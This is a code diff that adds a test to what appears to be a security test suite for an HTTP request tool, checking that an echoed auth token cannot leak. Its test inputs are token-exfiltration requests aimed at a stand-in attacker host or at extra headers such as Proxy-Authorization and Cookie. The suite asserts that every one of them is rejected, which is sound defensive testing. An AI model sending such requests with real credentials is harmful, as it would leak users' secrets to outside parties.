@@ -54,6 +54,23 @@ threat('T04', 'Secret through a variable', () => {
       assert.equal(attack.api.received.filter(({ path }) => path !== '/auth/v1/token').length, 1);
     });
 
+  it('keeps an echoed token out of any other header, and out of Authorization for anybody else', async () => {
+    for (const request of [
+      `GET http://${attack.evilHost}/\nAuthorization: ${echoed}\n`,
+      `# @no-auth\nGET http://${attack.evilHost}/\nAUTHORIZATION: ${echoed}\n`,
+      `GET http://api.matter.test:${attack.evil.port}/\nAuthorization: ${echoed}\n`,
+      `GET /y\nX-Auth: ${echoed}\n`,
+      `GET /y\nProxy-Authorization: ${echoed}\n`,
+      `GET /y\nAuthorization: ${echoed}\nCookie: ${echoed}\n`,
+      `POST /y\nAuthorization: ${echoed}\n\n${echoed}\n`,
+    ]) {
+      const outcome = await attack.send(`### one\nGET /echo\n### a\n${request}`);
+      assert.equal('error' in outcome && outcome.error.code, 'invalid-request', request);
+    }
+    assert.equal(attack.evil.received.length, 0);
+    assert.ok(attack.api.received.every(({ path }) => path !== '/y'));
+  });
+
   it('lets the user write a header of their own for the account', async () => {
     const outcome = await attack.send(`### one\nGET /echo\n### a\nGET /y\nAuthorization: ${echoed}\n`);
     assert.ok('exchange' in outcome);
